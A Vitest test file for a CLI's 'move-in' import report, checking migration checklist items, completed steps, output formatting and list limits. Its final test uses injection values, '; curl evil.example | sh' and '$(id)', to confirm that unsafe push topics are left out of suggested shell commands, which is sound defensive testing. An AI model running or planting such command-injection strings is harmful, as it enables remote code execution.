import { describe, expect, test } from 'vitest';
import { Needs } from '../../../ops/import/needs.ts';
import { draftOf } from '../../../shared/domain/installations/members.ts';
import { anInstallation, aUser, newId } from '../../support/import/imports.ts';
import { item, useMoveIn } from '../../support/import/move-in.ts';

/** Tests the remaining steps in the report of `carillon move-in`. */
const fixture = useMoveIn();
const { write, run, moveIn } = fixture;

describe('the check list', () => {
  const devices = () => [
    anInstallation({ apnsTopic: 'com.example.app' }),
    anInstallation({ deviceProfile: 'pad' }),
    ...[1, 2].map((n) =>
      anInstallation({
        deviceType: 'android',
        deviceToken: undefined,
        installationId: newId(),
        vendor: 'HMS',
        registrationId: `r${n}-${newId()}`,
      }),
    ),
    anInstallation({ deviceType: 'android', deviceToken: undefined, installationId: newId() }),
  ];

  test('names gateways without a profile, and requirements of users', async () => {
    const authData = { lc_apple: { uid: newId() }, weixin: { openid: newId() } };
    await write('_User.jsonl', [
      aUser({ authData }),
      aUser({ email: `${newId()}@example.com`, emailVerified: true }),
      aUser({ mobilePhoneNumber: '+8613800000000' }),
    ]);
    await write('_Installation.jsonl', devices());
    await write('Post.jsonl', [{ objectId: newId() }]);
    const document = (await moveIn()).json();
    expect(document.checkList).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ id: 'keys', state: 'todo' }),
        expect.objectContaining({ id: 'elsewhere', state: 'check' }),
        {
          id: 'profile apns',
          state: 'todo',
          text: 'APNs: 1 installation needs a profile.',
          advice: `carillon profile put ${fixture.appId} apns <file> --topic com.example.app; carillon profile help apns`,
        },
        expect.objectContaining({ id: 'profile apns/pad', state: 'todo' }),
        expect.objectContaining({
          id: 'profile vendor_a',
          state: 'todo',
          text: 'Huawei: 2 installations need a profile.',
        }),
        expect.objectContaining({ id: 'hybridPush', state: 'todo' }),
        expect.objectContaining({
          id: 'platforms',
          text: expect.stringContaining('lc_apple (1 user)'),
        }),
        expect.objectContaining({
          id: 'uncheckedPlatforms',
          text: expect.stringContaining('weixin (1 user)'),
        }),
        expect.objectContaining({
          id: 'mail',
          text: expect.stringContaining('1 of them verified'),
        }),
        expect.objectContaining({ id: 'sms' }),
        expect.objectContaining({ id: 'functions', state: 'check' }),
        expect.objectContaining({ id: 'address', state: 'todo' }),
        expect.objectContaining({ id: 'clients' }),
      ]),
    );
  });

  test('detects completed steps', async () => {
    await write('_User.jsonl', [aUser({ authData: { weixin: { openid: newId() } } })]);
    await write('_Installation.jsonl', devices().slice(2));
    await moveIn();
    const huawei = JSON.stringify({ appId: '1', appSecret: 'secret' });
    expect(
      (await run(['profile', 'put', fixture.appId, 'huawei', '-'], { stdin: huawei })).code,
    ).toBe(0);
    const platforms = JSON.stringify({ weixin: { appid: 'wx1', secret: 's' } });
    const pairs = [
      'hybridPush=true',
      'functionsUrl=https://functions.example',
      `authPlatforms=${platforms}`,
    ];
    expect((await run(['app', 'set', fixture.appId, ...pairs])).stderr).toBe('');
    const document = (await moveIn([], { env: { PUBLIC_URL: fixture.api.url } })).json();
    for (const id of ['profile vendor_a', 'functions', 'platforms'])
      expect(item(document, id)).toMatchObject({ state: 'done' });
    expect(item(document, 'hybridPush')).toBeUndefined();
  });

  test('is readable', async () => {
    await write('_Installation.jsonl', devices());
    const { code, stdout } = await run([
      'move-in',
      'export',
      '--app-id',
      fixture.appId,
      '--name',
      'Shop',
    ]);
    expect(code).toBe(0);
    expect(stdout).toContain(`App Shop (${fixture.appId}) was made.`);
    expect(stdout).toMatch(/^_Installation +5 +5 +0 +0$/m);
    expect(stdout).toMatch(
      /^\[ \] Huawei: 2 installations need a profile\.\n {6}carillon profile put /m,
    );
    expect(stdout).toMatch(/^\[\?\] /m);
  });
});

test('is limited to a hundred names each of gateways, platforms and topics', () => {
  const needs = new Needs();
  const draft = (more: object) =>
    draftOf(new Map(Object.entries({ deviceType: 'ios', ...more })), false);
  for (let i = 0; i < 200; i += 1) {
    needs.addInstallation(draft({ deviceProfile: `profile${i}`, pgwTopic: `topic${i}` }));
    needs.addUser({
      username: 'tom',
      email: null,
      emailVerified: null,
      mobilePhoneNumber: null,
      mobilePhoneVerified: false,
      authData: { [`platform${i}`]: { uid: '1' } },
      acl: null,
      fields: {},
    });
  }
  needs.addInstallation(draft({ deviceProfile: 'profile1' }));
  expect([needs.gateways.length, needs.platforms.length, needs.topics.length]).toEqual([
    100, 100, 100,
  ]);
  expect(needs.gateways[0]).toEqual({ connector: 'apns', profile: 'profile1', installations: 2 });
  expect(needs.users.all).toBe(200);
});

test('shows a topic in a command for the shell only if it has the form of a bundle id', () => {
  const needs = new Needs();
  for (const pgwTopic of ['com.example.app', '; curl evil.example | sh', '$(id)'])
    needs.addInstallation(draftOf(new Map(Object.entries({ deviceType: 'ios', pgwTopic })), false));
  expect(needs.topics).toEqual(['com.example.app']);
});
